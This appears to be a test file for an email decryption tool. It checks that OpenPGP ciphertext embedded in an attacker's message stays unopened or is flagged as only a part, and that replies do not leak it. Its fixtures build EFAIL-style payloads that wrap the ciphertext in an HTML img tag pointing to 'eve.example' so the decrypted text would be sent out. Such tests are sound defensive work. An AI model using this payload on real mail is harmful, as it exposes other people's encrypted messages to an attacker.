/** Ciphertext of others inside an attacker's mail: it stays closed, or what was opened is called a part, and no answer carries it away unasked. */

import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { strangersToQuote } from '../../src/html/index.ts';
import { Desk } from '../interop/command-line.ts';
import { Peer, mimeEncrypted } from '../interop/openpgp-peer.ts';
import { Cast, entityOf, letter, mail, multipart, secret, textOf } from './cast.ts';

let cast: Cast;
let gnupg: Peer;
let desk: Desk;
/** What Ann wrote to Bob with GnuPG, as armor. */
let armored: string;

beforeAll(async () => {
  cast = await Cast.meet();
  gnupg = new Peer();
  desk = new Desk();
  for (const name of ['ann', 'bob'])
    gnupg.gpg(['--quick-generate-key', `${name}@example.org`, 'future-default', 'default', 'never']);
  desk.write('ann.asc', gnupg.gpg(['--armor', '--export', 'ann@example.org']).out);
  desk.write('bob.private.asc', gnupg.gpg(['--armor', '--export-secret-keys', 'bob@example.org']).out);
  const to = ['--armor', '--sign', '--encrypt', '-u', 'ann@example.org', '-r', 'bob@example.org'];
  armored = Buffer.from(gnupg.gpg(to, `${secret}\n`).out).toString();
});

afterAll(() => {
  cast.leave();
  gnupg.dispose();
  desk.dispose();
});

const fields = ['From: eve@example.org', 'To: bob@example.org', 'Subject: hello'];
const part = (type: string, text: string) => `Content-Type: ${type}\r\n\r\n${text}`;
const open = (message: string, ...flags: string[]) =>
  desk.open(['--key', 'bob.private.asc', '--trusted-key', 'ann.asc', ...flags], Buffer.from(message));

describe('OpenPGP', () => {
  /** Ways to put the armor where a program might paste what is in it into the attacker's HTML. */
  const traps: readonly (readonly [string, () => string])[] = [
    [
      'PGP/MIME between two pieces of HTML',
      () =>
        multipart(
          fields,
          part('text/html', '<img src="https://eve.example/?'),
          Buffer.concat(mimeEncrypted(Buffer.from(armored))).toString(),
          part('text/html', '">'),
        ),
    ],
    [
      'a text block between two pieces of HTML',
      () =>
        multipart(
          fields,
          part('text/html', '<img src="https://eve.example/?'),
          part('text/plain', armored),
          part('text/html', '">'),
        ),
    ],
    [
      'a text block beside its harmless alternative',
      () => multipart(fields, part('text/plain', armored), part('text/html', '<p>What about Tuesday?')),
    ],
  ];

  it.each(traps)('%s stays closed', (_, trap) => {
    const { exitCode, out, report } = open(trap());
    expect(out.toString()).not.toContain(secret);
    expect(report.encryption).toMatchObject({ encrypted: true, opened: false, covers: 'part' });
    expect([exitCode, report.verdict.code]).toEqual([0, 'not-signed']);
  });

  it.each(traps)('%s, opened on wish, is a part', (_, trap) => {
    const { exitCode, out, report } = open(trap(), '--parts');
    expect(out.toString()).toContain(secret);
    expect(report.encryption).toMatchObject({ opened: true, covers: 'part' });
    expect([exitCode, report.verdict.code]).toEqual([1, 'partly-signed']);
  });

  it('a text block under a question in plain text is a part, and nobody verified', () => {
    const { report } = open([...fields, '', `What about Tuesday?\r\n${'\r\n'.repeat(200)}${armored}`].join('\r\n'));
    expect(report.encryption).toMatchObject({ covers: 'part' });
    expect(report.verdict.code).toBe('partly-signed');
  });
});

describe('an answer to Eve', () => {
  /** Whether Eve is among those to whom the answer may not go unasked. */
  async function strangers(wire: string): Promise<readonly string[]> {
    const { encryptions, headers } = await cast.read(wire);
    const signedAddresses = [headers.From, headers.To, headers.Cc].flatMap(({ value, protection }) =>
      protection.startsWith('signed') && value !== null ? value.split(', ') : [],
    );
    const decrypted = encryptions.some(({ evidence }) => evidence.opened);
    return strangersToQuote({ decrypted, recipients: ['eve@example.org'], signedAddresses });
  }
  const asEves = (entity: string) => `${fields.join('\r\n')}\r\n${entity}`;
  const byEve = { From: 'eve@example.org', To: 'bob@example.org' };

  it("does not carry away Ann's sealed message, sent on as hers", async () => {
    const stolen = await cast.seal(letter, { sign: false, signers: { smime: [], openpgp: [] } });
    const reading = await cast.read(asEves(entityOf(stolen)));
    expect(reading.verdict.code).not.toBe('verified');
    expect(await strangers(asEves(entityOf(stolen)))).toEqual(['eve@example.org']);
  });

  it("nor Ann's sealed and signed message with Eve's fields outside", async () => {
    const stolen = asEves(entityOf(await cast.seal(letter)));
    expect((await cast.read(stolen)).verdict.code).toBe('signed-by-other');
  });

  it('nor ciphertext in ciphertext: sealed again by Eve and signed by her around it', async () => {
    const stolen = entityOf(await cast.seal(letter, { sign: false, signers: { smime: [], openpgp: [] } }));
    const wire = await cast.seal(Buffer.from(asEves(stolen), 'latin1'), { signers: cast.signer(cast.eve) });
    const reading = await cast.read(wire);
    expect(textOf(reading)).not.toContain(secret);
    expect(reading.verdict.code).toBe('not-signed');
    expect(await strangers(wire)).toEqual(['eve@example.org']);
  });

  it('goes to Eve unasked when what was sealed is hers', async () => {
    expect(await strangers(await cast.seal(mail(byEve, 'x'), { signers: cast.signer(cast.eve) }))).toEqual([]);
  });
});
